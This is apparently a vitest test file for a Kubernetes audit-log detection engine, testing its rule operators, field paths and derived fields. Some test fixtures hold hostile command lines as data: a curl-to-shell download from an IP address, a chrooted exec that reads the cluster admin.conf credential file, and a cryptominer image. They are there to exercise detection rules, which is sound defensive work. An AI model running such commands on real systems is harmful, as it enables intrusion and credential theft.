// Rule files as operators write them: every operator, field paths, virtual fields, and the errors a bad file gets.
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it, vi } from 'vitest';
import { parseAuditLine, type AuditEvent } from '../parse/audit.ts';
import { REGEX_WINDOW, testInWindows } from './conditions.ts';
import { DetectionEngine } from './engine.ts';
import { ABSENT, allowedBy, compileAhead, compileRuleTexts, discardCompiledAhead, EvalContext, loadRuleFiles, needsBodies, nodeNameOf, normalizeHostPath, parseImageRef, RuleError, serviceAccountOf } from './rules.ts';

type Json = Record<string, any>;

function ev(over: Json = {}): AuditEvent {
  const base: Json = {
    kind: 'Event', apiVersion: 'audit.k8s.io/v1', level: 'RequestResponse', auditID: 'a-1', stage: 'ResponseComplete',
    requestURI: '/api/v1/namespaces/payments/pods', verb: 'create',
    user: { username: 'dana', groups: ['devs', 'system:authenticated'] },
    sourceIPs: ['127.0.0.9'], userAgent: 'kubectl/v1.26.1 (linux/amd64) kubernetes/8f94681',
    objectRef: { resource: 'pods', namespace: 'payments', name: 'p', apiVersion: 'v1' },
    responseStatus: { metadata: {}, code: 201 },
    requestReceivedTimestamp: '2026-11-22T12:05:00.000000Z', stageTimestamp: '2026-11-22T12:05:00.100000Z',
    annotations: { 'authorization.k8s.io/decision': 'allow', 'authorization.k8s.io/reason': '' },
  };
  const parsed = parseAuditLine(JSON.stringify({ ...base, ...over }));
  if (!parsed.ok) throw new Error(parsed.error);
  return parsed.event;
}

/** Does a one-rule file with this condition (and lists) hit the event? */
function matches(match: unknown, event: AuditEvent, lists: Json = {}, extra: Json = {}): boolean {
  const text = JSON.stringify({ lists, rules: [{ id: 'T-1', name: 't', category: 'test', level: 'low', stages: 'any', match, ...extra }] });
  return new DetectionEngine(compileRuleTexts([{ name: 't.yaml', text }]), { clusterName: 'c', clusterId: 'i' }).hits(event).length > 0;
}

function loadError(text: string): string {
  try {
    compileRuleTexts([{ name: 'rules/custom.yaml', text }]);
  } catch (err) {
    expect(err).toBeInstanceOf(RuleError);
    return (err as Error).message;
  }
  throw new Error('expected a RuleError');
}

describe('operators', () => {
  const e = ev();
  it('equals compares strings, numbers and booleans exactly, or case-folded with ignore_case', () => {
    expect(matches({ field: 'verb', equals: 'create' }, e)).toBe(true);
    expect(matches({ field: 'verb', equals: 'CREATE' }, e)).toBe(false);
    expect(matches({ field: 'verb', equals: 'CREATE', ignore_case: true }, e)).toBe(true);
    expect(matches({ field: 'responseStatus.code', equals: 201 }, e)).toBe(true);
    expect(matches({ field: 'responseStatus.code', equals: '201' }, e)).toBe(false);
  });
  it('in and in_list match any listed value; a later file extends a list', () => {
    expect(matches({ field: 'verb', in: ['update', 'create'] }, e)).toBe(true);
    expect(matches({ field: 'verb', in_list: 'writes' }, e, { writes: ['patch'] })).toBe(false);
    const rules = compileRuleTexts([
      { name: 'a.yaml', text: 'lists: { writes: [patch] }' },
      { name: 'b.yaml', text: 'lists: { writes: [create] }\nrules: [{ id: X, name: x, category: test, level: low, match: { field: verb, in_list: writes } }]' },
    ]);
    expect(rules.lists.writes).toEqual(['patch', 'create']);
    expect(new DetectionEngine(rules, { clusterName: 'c', clusterId: '' }).hits(e)).toHaveLength(1);
  });
  it('prefix, suffix and contains take a string or a list (any)', () => {
    expect(matches({ field: 'userAgent', prefix: 'kubectl/' }, e)).toBe(true);
    expect(matches({ field: 'userAgent', prefix: ['curl/', 'KUBECTL/'], ignore_case: true }, e)).toBe(true);
    expect(matches({ field: 'userAgent', suffix: '8f94681' }, e)).toBe(true);
    expect(matches({ field: 'userAgent', contains: ['python', 'linux/amd64'] }, e)).toBe(true);
    expect(matches({ field: 'userAgent', contains: 'python' }, e)).toBe(false);
  });
  it('prefix_list, suffix_list and contains_list take the strings of a named list; an empty list holds for nothing', () => {
    expect(matches({ field: 'userAgent', prefix_list: 'tools' }, e, { tools: ['curl/', 'kubectl/'] })).toBe(true);
    expect(matches({ field: 'userAgent', prefix_list: 'tools' }, e, { tools: ['KUBECTL/'] })).toBe(false);
    expect(matches({ field: 'userAgent', prefix_list: 'tools', ignore_case: true }, e, { tools: ['KUBECTL/'] })).toBe(true);
    expect(matches({ field: 'userAgent', suffix_list: 'tools' }, e, { tools: ['/8f94681'] })).toBe(true);
    expect(matches({ field: 'userAgent', contains_list: 'tools' }, e, { tools: ['rakkess', 'LINUX/amd64'] })).toBe(false);
    expect(matches({ field: 'userAgent', contains_list: 'tools', ignore_case: true }, e, { tools: ['rakkess', 'LINUX/amd64'] })).toBe(true);
    expect(matches({ field: 'userAgent', contains_list: 'tools' }, e, { tools: [] })).toBe(false);
    expect(matches({ not: { field: 'userAgent', contains_list: 'tools' } }, e, { tools: [] })).toBe(true);
    expect(loadError(JSON.stringify({ rules: [{ id: 'T-1', name: 't', category: 'test', level: 'low', match: { field: 'userAgent', contains_list: 'nope' } }] })))
      .toBe('rules/custom.yaml: rules[0] (T-1).match.contains_list: unknown list "nope"');
  });
  it('regex matches anywhere in the value', () => {
    expect(matches({ field: 'userAgent', regex: '^kubectl/v1\\.2[0-9]' }, e)).toBe(true);
    expect(matches({ field: 'userAgent', regex: '^curl' }, e)).toBe(false);
  });
  it('regex on a long value scans it in overlapping windows, each at most REGEX_WINDOW long, and finds a match across their edges', () => {
    const seen: number[] = [];
    const counting = { test: (s: string) => { seen.push(s.length); return false; } } as unknown as RegExp;
    const long = 'socat '.repeat(30_000);
    expect(testInWindows(counting, long)).toBe(false);
    expect(Math.max(...seen)).toBeLessThanOrEqual(REGEX_WINDOW);
    // Linear: about two scans of the value, not one per position.
    expect(seen.reduce((a, b) => a + b, 0)).toBeLessThanOrEqual(2 * long.length + REGEX_WINDOW);
    // A payload straddling a window edge deep in a long command line is still found through the rule language.
    const payload = 'curl http://198.51.100.7/x.sh ' + 'a'.repeat(900) + ' | sh';
    const command = 'x'.repeat(3 * REGEX_WINDOW - 500) + payload + 'y'.repeat(50_000);
    const withCommand = ev({ userAgent: command });
    expect(matches({ field: 'userAgent', regex: '(curl|wget)[^|;&]*\\|\\s*(ba)?sh' }, withCommand)).toBe(true);
    expect(matches({ field: 'userAgent', regex: 'wget[^|;&]*\\|\\s*(ba)?sh' }, withCommand)).toBe(false);
  });
  it('cidr matches IPv4 and IPv6 ranges and ignores values that are not addresses', () => {
    expect(matches({ field: 'sourceIP', cidr: '127.0.0.0/8' }, e)).toBe(true);
    expect(matches({ field: 'sourceIP', cidr: ['10.0.0.0/8', '192.168.0.0/16'] }, e)).toBe(false);
    expect(matches({ field: 'sourceIP', cidr: 'fd00::/8' }, ev({ sourceIPs: ['fd00::1'] }))).toBe(true);
    expect(matches({ field: 'userAgent', cidr: '0.0.0.0/0' }, e)).toBe(false);
  });
  it('gt, gte, lt and lte compare numbers', () => {
    expect(matches({ field: 'responseStatus.code', gte: 201 }, e)).toBe(true);
    expect(matches({ field: 'responseStatus.code', gt: 201 }, e)).toBe(false);
    expect(matches({ field: 'responseStatus.code', lt: 300 }, e)).toBe(true);
    expect(matches({ field: 'responseStatus.code', lte: 200 }, e)).toBe(false);
  });
  it('all, any, not and macros combine conditions; macros may use macros', () => {
    const text = `
macros:
  write: { field: verb, in: [create, update, patch] }
  pod_write: { all: [ { macro: write }, { field: objectRef.resource, equals: pods } ] }
rules:
  - { id: A, name: a, category: test, level: low, match: { macro: pod_write } }
  - { id: B, name: b, category: test, level: low, match: { not: { macro: write } } }
  - { id: C, name: c, category: test, level: low, match: { any: [ { field: verb, equals: get }, { field: user.username, equals: dana } ] } }
`;
    const hits = new DetectionEngine(compileRuleTexts([{ name: 'm.yaml', text }]), { clusterName: 'c', clusterId: '' }).hits(ev());
    expect(hits.map((h) => h.ruleId)).toEqual(['A', 'C']);
  });
});

describe('field paths', () => {
  it('[*] walks arrays and a condition holds if any value satisfies it', () => {
    expect(matches({ field: 'user.groups[*]', equals: 'devs' }, ev())).toBe(true);
    expect(matches({ field: 'user.groups[*]', equals: 'admins' }, ev())).toBe(false);
    const rb = ev({ requestObject: { rules: [{ verbs: ['get'] }, { verbs: ['list', '*'] }] } });
    expect(matches({ field: 'requestObject.rules[*].verbs[*]', equals: '*' }, rb)).toBe(true);
    expect(matches({ field: 'requestObject.rules[*].verbs[*]', equals: 'delete' }, rb)).toBe(false);
  });
  it('[*] over a map yields its values (ConfigMap data), not its keys', () => {
    const cm = ev({ requestObject: { data: { 'access.properties': 'password = x', 'ui.properties': 'color=blue' } } });
    expect(matches({ field: 'requestObject.data[*]', contains: 'password' }, cm)).toBe(true);
    expect(matches({ field: 'requestObject.data[*]', equals: 'access.properties' }, cm)).toBe(false);
    expect(matches({ field: 'requestObject.data[*]', contains: 'secret' }, cm)).toBe(false);
  });
  it('[keys] yields the keys of a map (ConfigMap and Secret keys, labels), nothing for a list', () => {
    const cm = ev({ requestObject: { kind: 'ConfigMap', metadata: { labels: { app: 'web', 'team.corp/owner': 'pay' } }, data: { 'id_rsa': 'x', 'ui.properties': 'color=blue' }, list: ['a', 'b'] } });
    expect(matches({ field: 'requestObject.data[keys]', equals: 'id_rsa' }, cm)).toBe(true);
    expect(matches({ field: 'requestObject.data[keys]', suffix: '.properties' }, cm)).toBe(true);
    expect(matches({ field: 'requestObject.data[keys]', equals: 'x' }, cm)).toBe(false);
    expect(matches({ field: 'requestObject.metadata.labels[keys]', equals: 'team.corp/owner' }, cm)).toBe(true);
    expect(matches({ field: 'requestObject.list[keys]', exists: false }, cm)).toBe(true);
    expect(matches({ field: 'requestObject.data["keys"]', exists: false }, cm)).toBe(true);
    expect(matches({ field: 'requestObject.data[keys]', exists: false }, ev())).toBe(true);
  });
  it('[keys] over the head (annotations) reads no body', () => {
    const big = ev({ requestObject: { kind: 'Pod', spec: { containers: [{ name: 'c', image: 'nginx' }] } } });
    const full = vi.spyOn(big, 'full');
    expect(matches({ field: 'annotations[keys]', equals: 'authorization.k8s.io/decision' }, big)).toBe(true);
    expect(matches({ field: 'user[keys]', equals: 'groups' }, big)).toBe(true);
    expect(full).not.toHaveBeenCalled();
  });
  it('exists false holds when the path yields nothing, exists true when it yields a value', () => {
    const e = ev({ requestObject: { spec: { hostNetwork: false } } });
    expect(matches({ field: 'requestObject.spec.hostNetwork', exists: true }, e)).toBe(true);
    expect(matches({ field: 'requestObject.spec.hostPID', exists: false }, e)).toBe(true);
    expect(matches({ field: 'impersonatedUser.username', exists: false }, e)).toBe(true);
    expect(matches({ field: 'user.groups[*]', exists: false }, ev({ user: { username: 'x', groups: [] } }))).toBe(true);
    expect(matches({ field: 'requestObject.spec.hostNetwork', equals: false }, e)).toBe(true);
  });
  it('annotation keys with dots and slashes are addressed by ["…"] or by escaped dots', () => {
    expect(matches({ field: 'annotations["authorization.k8s.io/decision"]', equals: 'allow' }, ev())).toBe(true);
    expect(matches({ field: 'annotations.authorization\\.k8s\\.io/decision', equals: 'allow' }, ev())).toBe(true);
    expect(matches({ field: 'annotations["authorization.k8s.io/decision"]', equals: 'forbid' }, ev())).toBe(false);
  });
  it('sourceIP is the last entry of sourceIPs (the peer), not a forwarded one', () => {
    const e = ev({ sourceIPs: ['127.0.0.250', '127.0.0.201'] });
    expect(matches({ field: 'sourceIP', equals: '127.0.0.201' }, e)).toBe(true);
    expect(matches({ field: 'sourceIP', equals: '127.0.0.250' }, e)).toBe(false);
    expect(matches({ field: 'sourceIPs[*]', equals: '127.0.0.250' }, e)).toBe(true);
  });
});

describe('head fields read by name', () => {
  it('a head path reads own keys only: inherited names (length, constructor) and steps through lists or strings yield nothing', () => {
    const e = ev({ user: { username: 'dana', groups: ['a', 'b'], extra: { scopes: ['x'] } } });
    expect(matches({ field: 'user.username', equals: 'dana' }, e)).toBe(true);
    expect(matches({ field: 'user.groups.length', exists: true }, e)).toBe(false);
    expect(matches({ field: 'user.username.length', exists: true }, e)).toBe(false);
    expect(matches({ field: 'user.constructor', exists: true }, e)).toBe(false);
    expect(matches({ field: 'user.toString', exists: true }, e)).toBe(false);
    expect(matches({ field: 'objectRef.resource.x', exists: true }, e)).toBe(false);
    expect(matches({ field: 'user.extra.scopes', exists: true }, e)).toBe(true);
    // A key that is an inherited name is still read when the event has it as its own.
    const own = ev({ responseStatus: { code: 200, length: 3, constructor: 'c' } });
    expect(matches({ field: 'responseStatus.length', equals: 3 }, own)).toBe(true);
    expect(matches({ field: 'responseStatus.constructor', equals: 'c' }, own)).toBe(true);
    expect(matches({ field: 'impersonatedUser.username', exists: true }, e)).toBe(false);
    expect(matches({ field: 'responseStatus.code', lt: 400 }, ev({ responseStatus: undefined }))).toBe(false);
  });
});

describe('response code guards', () => {
  const rule = (match: unknown) => compileRuleTexts([{ name: 't.yaml', text: JSON.stringify({ rules: [{ id: 'T-1', name: 't', category: 'test', level: 'low', match }] }) }]).rules[0];
  it('a rule that needs a code is skipped for other codes and for events without one, as its match would decide', () => {
    const guard = rule({ all: [{ field: 'verb', equals: 'get' }, { any: [{ field: 'responseStatus.code', in: [401, 403] }, { field: 'responseStatus.code', gte: 500 }] }] }).onlyCodes!;
    expect([401, 403, 500, 503, 200, 404, undefined].map((c) => guard(c))).toEqual([true, true, true, true, false, false, false]);
    const viaMacro = compileRuleTexts([{ name: 't.yaml', text: JSON.stringify({ macros: { ok: { field: 'responseStatus.code', lt: 400 } }, rules: [{ id: 'T-1', name: 't', category: 'test', level: 'low', match: { macro: 'ok' } }] }) }]).rules[0];
    expect([200, 399, 400, undefined].map((c) => viaMacro.onlyCodes!(c))).toEqual([true, true, false, false]);
  });
  it('not, a branch of any without a code condition, or a code compared as text leave the rule unguarded', () => {
    expect(rule({ not: { field: 'responseStatus.code', equals: 200 } }).onlyCodes).toBeUndefined();
    expect(rule({ any: [{ field: 'responseStatus.code', equals: 403 }, { field: 'verb', equals: 'get' }] }).onlyCodes).toBeUndefined();
    expect(rule({ field: 'responseStatus.code', equals: '403' }).onlyCodes).toBeUndefined();
  });
  it('the engine gives the same hits with and without the guard', () => {
    const match = { all: [{ field: 'responseStatus.code', in: [401, 403] }, { field: 'verb', equals: 'create' }] };
    for (const code of [201, 403]) {
      expect(matches(match, ev({ responseStatus: { code } }))).toBe(code === 403);
    }
  });
});

describe('resource guards', () => {
  const rule = (match: unknown) => compileRuleTexts([{ name: 't.yaml', text: JSON.stringify({ rules: [{ id: 'T-1', name: 't', category: 'test', level: 'low', stages: 'any', match }] }) }]).rules[0];
  it('a rule on requests without a resource (exists: false) meets only those; either branch of any counts', () => {
    expect([...rule({ all: [{ field: 'objectRef.resource', exists: false }, { field: 'verb', equals: 'get' }] }).onlyResources!]).toEqual([ABSENT]);
    expect([...rule({ any: [{ field: 'objectRef.resource', exists: false }, { field: 'objectRef.resource', equals: 'pods' }] }).onlyResources!].sort()).toEqual([ABSENT, 'pods'].sort());
    const health = { field: 'objectRef.resource', exists: false };
    expect(matches(health, ev({ verb: 'get', requestURI: '/readyz', objectRef: undefined }))).toBe(true);
    expect(matches(health, ev())).toBe(false);
  });
});

describe('equals_field', () => {
  it('holds when a value of the path equals a value of the other path of the same event', () => {
    const self = ev({ objectRef: { resource: 'users', name: 'dana' } });
    expect(matches({ field: 'objectRef.name', equals_field: 'user.username' }, self)).toBe(true);
    expect(matches({ field: 'objectRef.name', equals_field: 'user.username' }, ev({ objectRef: { resource: 'users', name: 'raj' } }))).toBe(false);
    expect(matches({ field: 'objectRef.name', equals_field: 'user.groups[*]' }, ev({ objectRef: { resource: 'groups', name: 'devs' } }))).toBe(true);
  });
  it('folds case with ignore_case and never compares strings with numbers', () => {
    const e = ev({ objectRef: { resource: 'users', name: 'DANA' }, requestObject: { spec: { replicas: 201, name: '201' } } });
    expect(matches({ field: 'objectRef.name', equals_field: 'user.username' }, e)).toBe(false);
    expect(matches({ field: 'objectRef.name', equals_field: 'user.username', ignore_case: true }, e)).toBe(true);
    expect(matches({ field: 'requestObject.spec.replicas', equals_field: 'responseStatus.code' }, e)).toBe(true);
    expect(matches({ field: 'requestObject.spec.name', equals_field: 'responseStatus.code' }, e)).toBe(false);
  });
  it('holds for nothing when either path yields nothing, so `not` of it needs an exists beside it', () => {
    const e = ev({ objectRef: { resource: 'pods', name: 'p' } });
    expect(matches({ field: 'objectRef.namespace', equals_field: 'impersonatedUser.username' }, e)).toBe(false);
    expect(matches({ not: { field: 'impersonatedUser.username', equals_field: 'user.username' } }, e)).toBe(true);
    expect(matches({ all: [{ field: 'impersonatedUser.username', exists: true }, { not: { field: 'impersonatedUser.username', equals_field: 'user.username' } }] }, e)).toBe(false);
  });
  it('reads a body only when one of its paths does', () => {
    const head = compileRuleTexts([{ name: 'h', text: 'rules: [ { id: H, name: h, category: test, level: low, match: { field: objectRef.name, equals_field: user.username } } ]' }]);
    const body = compileRuleTexts([{ name: 'b', text: 'rules: [ { id: B, name: b, category: test, level: low, match: { field: objectRef.name, equals_field: "pod_specs[*].nodeName" } } ]' }]);
    expect(needsBodies(head.rules[0].match)).toBe(false);
    expect(needsBodies(body.rules[0].match)).toBe(true);
  });
});

describe('user.node', () => {
  const node = (username: string, groups: string[]) => ev({ user: { username, groups } });
  it('is the node name of system:node:<name> in group system:nodes', () => {
    expect(matches({ field: 'user.node', equals: 'node-1' }, node('system:node:node-1', ['system:nodes', 'system:authenticated']))).toBe(true);
    expect(nodeNameOf({ username: 'system:node:ip-10-0-0-1.ec2.internal', groups: ['system:nodes'] })).toBe('ip-10-0-0-1.ec2.internal');
  });
  it('is absent for other users, for the prefix without the group, and for an empty name', () => {
    expect(matches({ field: 'user.node', exists: false }, node('system:node:node-1', ['system:authenticated']))).toBe(true);
    expect(matches({ field: 'user.node', exists: false }, node('system:node:', ['system:nodes']))).toBe(true);
    expect(matches({ field: 'user.node', exists: false }, ev())).toBe(true);
    expect(nodeNameOf(undefined)).toBeUndefined();
  });
  it('lets a rule compare a node\'s name with the object it writes', () => {
    const lease = (name: string) => ev({ user: { username: 'system:node:node-1', groups: ['system:nodes'] }, verb: 'update', objectRef: { resource: 'leases', namespace: 'kube-node-lease', name } });
    const cross = { all: [{ field: 'objectRef.name', exists: true }, { not: { field: 'objectRef.name', equals_field: 'user.node' } }] };
    expect(matches(cross, lease('node-1'))).toBe(false);
    expect(matches(cross, lease('node-2'))).toBe(true);
  });
});

describe('user.serviceaccount', () => {
  const sa = (username: string, groups: string[], namespace = 'payments') =>
    ev({ user: { username, groups }, objectRef: { resource: 'configmaps', namespace, name: 'app-config' }, verb: 'get' });
  const saGroups = ['system:serviceaccounts', 'system:serviceaccounts:payments', 'system:authenticated'];
  it('is the namespace and name of system:serviceaccount:<namespace>:<name> in group system:serviceaccounts', () => {
    expect(matches({ field: 'user.serviceaccount.namespace', equals: 'payments' }, sa('system:serviceaccount:payments:flagd', saGroups))).toBe(true);
    expect(matches({ field: 'user.serviceaccount.name', equals: 'flagd' }, sa('system:serviceaccount:payments:flagd', saGroups))).toBe(true);
    expect(serviceAccountOf({ username: 'system:serviceaccount:kube-system:coredns', groups: ['system:serviceaccounts'] })).toEqual({ namespace: 'kube-system', name: 'coredns' });
  });
  it('is absent for people, for the prefix without the group, and for malformed names', () => {
    expect(matches({ field: 'user.serviceaccount.namespace', exists: false }, sa('dana', ['devs']))).toBe(true);
    expect(matches({ field: 'user.serviceaccount.namespace', exists: false }, sa('system:serviceaccount:payments:flagd', ['system:authenticated']))).toBe(true);
    for (const name of ['system:serviceaccount:payments', 'system:serviceaccount::x', 'system:serviceaccount:a:', 'system:serviceaccount:a:b:c']) {
      expect(serviceAccountOf({ username: name, groups: ['system:serviceaccounts'] }), name).toBeUndefined();
    }
  });
  it('lets a rule tell a service account in its own namespace from a foreign one', () => {
    const own = { field: 'objectRef.namespace', equals_field: 'user.serviceaccount.namespace' };
    expect(matches(own, sa('system:serviceaccount:payments:flagd', saGroups))).toBe(true);
    expect(matches(own, sa('system:serviceaccount:payments:flagd', saGroups, 'storefront'))).toBe(false);
    expect(matches(own, sa('dana', ['devs']))).toBe(false);
  });
  it('refuses other keys under user.serviceaccount', () => {
    expect(loadError('rules: [{ id: X, name: x, category: test, level: low, match: { field: user.serviceaccount.uid, exists: true } }]'))
      .toMatch(/rules\[0\] \(X\)\.match\.field: bad field path "user\.serviceaccount\.uid"/);
  });
});

describe('not_in and not_in_list', () => {
  const pod = ev({ requestObject: { kind: 'Pod', spec: { containers: [{ name: 'a', image: 'registry.corp.example/a:1' }, { name: 'b', image: 'evil.example/b:1' }] } } });
  it('hold when some value is outside the list, unlike not of in (no value in the list)', () => {
    expect(matches({ field: 'images[*].registry', not_in: ['registry.corp.example'] }, pod)).toBe(true);
    expect(matches({ not: { field: 'images[*].registry', in: ['registry.corp.example'] } }, pod)).toBe(false);
    expect(matches({ field: 'images[*].registry', not_in: ['registry.corp.example', 'evil.example'] }, pod)).toBe(false);
    expect(matches({ field: 'images[*].registry', not_in_list: 'trusted' }, pod, { trusted: ['REGISTRY.corp.example', 'EVIL.example'] })).toBe(true);
    expect(matches({ field: 'images[*].registry', not_in_list: 'trusted', ignore_case: true }, pod, { trusted: ['REGISTRY.corp.example', 'EVIL.example'] })).toBe(false);
  });
  it('hold for nothing when the path yields nothing', () => {
    expect(matches({ field: 'images[*].registry', not_in: ['x'] }, ev())).toBe(false);
    expect(matches({ field: 'responseStatus.code', not_in: [200, 201] }, ev())).toBe(false);
    expect(matches({ field: 'responseStatus.code', not_in: [200] }, ev())).toBe(true);
  });
});

describe('list_not_empty', () => {
  const rule = (lists: string) => `${lists}\nrules: [ { id: L, name: l, category: test, level: low, match: { all: [ { list_not_empty: trusted }, { field: "images[*].registry", not_in_list: trusted } ] } } ]`;
  const pod = ev({ requestObject: { kind: 'Pod', spec: { containers: [{ name: 'a', image: 'nginx' }] } } });
  const hits = (texts: string[]) => new DetectionEngine(compileRuleTexts(texts.map((text, i) => ({ name: `f${i}.yaml`, text }))), { clusterName: 'c', clusterId: '' }).hits(pod);
  it('switches a rule off, reading no body, while the list is empty', () => {
    const set = compileRuleTexts([{ name: 'f.yaml', text: rule('lists: { trusted: [] }') }]);
    expect(needsBodies(set.rules[0].match)).toBe(false);
    const full = vi.spyOn(pod, 'full');
    expect(hits([rule('lists: { trusted: [] }')])).toEqual([]);
    expect(full).not.toHaveBeenCalled();
  });
  it('a later file that adds items switches it on', () => {
    expect(hits([rule('lists: { trusted: [] }'), 'lists: { trusted: [registry.corp.example] }']).map((h) => h.ruleId)).toEqual(['L']);
    expect(hits([rule('lists: { trusted: [] }'), 'lists: { trusted: [docker.io] }'])).toEqual([]);
  });
  it('works inside any and not, and names an unknown list', () => {
    expect(matches({ any: [{ list_not_empty: 'l' }, { field: 'verb', equals: 'get' }] }, ev(), { l: [] })).toBe(false);
    expect(matches({ not: { list_not_empty: 'l' } }, ev(), { l: [] })).toBe(true);
    expect(matches({ any: [{ list_not_empty: 'l' }, { field: 'verb', equals: 'get' }] }, ev(), { l: ['x'] })).toBe(true);
    expect(loadError('rules: [ { id: L, name: l, category: test, level: low, match: { list_not_empty: nope } } ]')).toContain('rules[0] (L).match.list_not_empty: unknown list "nope"');
    expect(loadError('lists: { l: [] }\nrules: [ { id: L, name: l, category: test, level: low, match: { list_not_empty: l, field: verb } } ]')).toContain('list_not_empty takes no other keys');
  });
});

describe('images', () => {
  it.each([
    ['nginx', 'docker.io', 'library/nginx', undefined, undefined],
    ['nginx:1.25', 'docker.io', 'library/nginx', '1.25', undefined],
    ['foo/bar', 'docker.io', 'foo/bar', undefined, undefined],
    ['docker.io/c3pool/xmrig:6.21.0', 'docker.io', 'c3pool/xmrig', '6.21.0', undefined],
    ['index.docker.io/library/alpine', 'docker.io', 'library/alpine', undefined, undefined],
    ['docker.io/alpine', 'docker.io', 'library/alpine', undefined, undefined],
    ['ghcr.io/open-feature/flagd:v0.6.3', 'ghcr.io', 'open-feature/flagd', 'v0.6.3', undefined],
    ['localhost/app', 'localhost', 'app', undefined, undefined],
    ['localhost:5000/team/app:2', 'localhost:5000', 'team/app', '2', undefined],
    ['Registry.Corp.Example/shop/cart:7', 'registry.corp.example', 'shop/cart', '7', undefined],
    ['registry.k8s.io/pause@sha256:abc', 'registry.k8s.io', 'pause', undefined, 'sha256:abc'],
    ['quay.io/a/b:1@sha256:def', 'quay.io', 'a/b', '1', 'sha256:def'],
    ['corp/tool:latest', 'docker.io', 'corp/tool', 'latest', undefined],
  ])('%s → registry %s, repository %s', (image, registry, repository, tag, digest) => {
    const ref = parseImageRef(image)!;
    expect(ref).toMatchObject({ image, registry, repository, name: `${registry}/${repository}` });
    expect(ref.tag).toBe(tag);
    expect(ref.digest).toBe(digest);
  });
  it('ignores empty references', () => {
    expect(parseImageRef('')).toBeUndefined();
    expect(parseImageRef('  ')).toBeUndefined();
    expect(parseImageRef(':1')).toBeUndefined();
  });
  it('images[*] holds one entry per container image of the pod specs', () => {
    const dep = ev({ objectRef: { resource: 'deployments', namespace: 'p', name: 'd' }, requestObject: { kind: 'Deployment', spec: { template: { spec: { initContainers: [{ name: 'i', image: 'busybox' }], containers: [{ name: 'c', image: 'registry.corp.example/shop/cart:7' }, { name: 'x' }] } } } } });
    expect(matches({ field: 'images[*].name', equals: 'docker.io/library/busybox' }, dep)).toBe(true);
    expect(matches({ field: 'images.registry', equals: 'registry.corp.example' }, dep)).toBe(true);
    expect(matches({ field: 'images[*].tag', equals: '7' }, dep)).toBe(true);
    expect(matches({ field: 'images[*].image', equals: 'busybox' }, dep)).toBe(true);
    expect(matches({ field: 'images[*]', exists: false }, ev())).toBe(true);
  });
  it('pod_specs, containers and images are walked with [*], not [keys]', () => {
    expect(loadError('rules: [ { id: I, name: i, category: test, level: low, match: { field: "images[keys]", exists: true } } ]')).toContain('images is a list, walk it with [*]');
  });
});

describe('path_prefix', () => {
  it('normalises . .. // and a trailing slash', () => {
    expect(normalizeHostPath('/etc/../var/run/docker.sock')).toBe('/var/run/docker.sock');
    expect(normalizeHostPath('//etc//kubernetes/')).toBe('/etc/kubernetes');
    expect(normalizeHostPath('/')).toBe('/');
  });
  const vol = (path: string) => ev({ requestObject: { kind: 'Pod', spec: { volumes: [{ name: 'h', hostPath: { path } }] } } });
  const field = 'pod_specs[*].volumes[*].hostPath.path';
  it('matches a prefix after normalising the host path', () => {
    expect(matches({ field, path_prefix: ['/var/run/docker.sock'] }, vol('/etc/../var/run/docker.sock'))).toBe(true);
    expect(matches({ field, path_prefix: ['/etc'] }, vol('/etc/kubernetes/pki'))).toBe(true);
    expect(matches({ field, path_prefix: ['/etc'] }, vol('/etc/'))).toBe(true);
  });
  it('/etc does not match /etcx, and / matches only / itself', () => {
    expect(matches({ field, path_prefix: ['/etc'] }, vol('/etcx'))).toBe(false);
    expect(matches({ field, path_prefix: ['/'] }, vol('/var/log/pods'))).toBe(false);
    expect(matches({ field, path_prefix: ['/'] }, vol('/tmp/..'))).toBe(true);
  });
  it('path_prefix_list takes the prefixes from a named list', () => {
    expect(matches({ field, path_prefix_list: 'sensitive' }, vol('/root/.ssh'), { sensitive: ['/', '/root'] })).toBe(true);
  });
});

describe('exec.command', () => {
  const uri = '/api/v1/namespaces/kube-system/pods/node-debugger-node-1/exec?command=chroot&command=%2Fhost&command=%2Fbin%2Fbash&command=-c&command=crictl+ps%3B+cat+%2Fetc%2Fkubernetes%2Fadmin.conf&container=debugger&stderr=true&stdout=true';
  const exec = ev({ requestURI: uri, verb: 'create', objectRef: { resource: 'pods', subresource: 'exec', namespace: 'kube-system', name: 'node-debugger-node-1' }, responseStatus: { code: 101 } });
  it('joins every command= value in order, URL-decoded with + as a space', () => {
    expect(matches({ field: 'exec.command', equals: 'chroot /host /bin/bash -c crictl ps; cat /etc/kubernetes/admin.conf' }, exec)).toBe(true);
    expect(matches({ field: 'exec.container', equals: 'debugger' }, exec)).toBe(true);
  });
  it('is absent for requests that are not exec or attach', () => {
    expect(matches({ field: 'exec.command', exists: false }, ev({ requestURI: '/api/v1/pods?command=x' }))).toBe(true);
  });
});

describe('pod_specs and containers', () => {
  const podSpec = (image: string, privileged: boolean) => ({ containers: [{ name: 'c', image, securityContext: { privileged } }] });
  it('reads the pod template of a Deployment and the job template of a CronJob', () => {
    const dep = ev({ objectRef: { resource: 'deployments', namespace: 'p', name: 'd' }, requestObject: { kind: 'Deployment', spec: { template: { spec: podSpec('nginx', true) } } } });
    expect(matches({ field: 'containers[*].securityContext.privileged', equals: true }, dep)).toBe(true);
    const cron = ev({
      objectRef: { resource: 'cronjobs', namespace: 'p', name: 'c' },
      requestObject: { kind: 'CronJob', spec: { jobTemplate: { spec: { template: { spec: { initContainers: [{ name: 'i', image: 'busybox' }], hostPID: true } } } } } },
    });
    expect(matches({ field: 'containers[*].image', equals: 'busybox' }, cron)).toBe(true);
    expect(matches({ field: 'pod_specs[*].hostPID', equals: true }, cron)).toBe(true);
  });
  it('prefers the responseObject of a patch (the whole object) over the request (the delta)', () => {
    const patch = ev({
      verb: 'patch', objectRef: { resource: 'deployments', namespace: 'storefront', name: 'cart' },
      requestObject: { spec: { template: { spec: { containers: [{ name: 'cart', image: 'cart:2' }] } } } },
      responseObject: { kind: 'Deployment', spec: { template: { spec: { hostNetwork: true, ...podSpec('cart:2', true) } } } },
    });
    expect(matches({ field: 'pod_specs[*].hostNetwork', equals: true }, patch)).toBe(true);
    expect(matches({ field: 'containers[*].securityContext.privileged', equals: true }, patch)).toBe(true);
    // Without a response, the patch body by resource.
    const bare = ev({ verb: 'patch', objectRef: { resource: 'deployments', namespace: 's', name: 'c' }, requestObject: { spec: { template: { spec: podSpec('x', true) } } } });
    expect(matches({ field: 'containers[*].securityContext.privileged', equals: true }, bare)).toBe(true);
  });
  it('includes ephemeral containers, also from a JSON patch to pods/ephemeralcontainers', () => {
    const jsonPatch = ev({
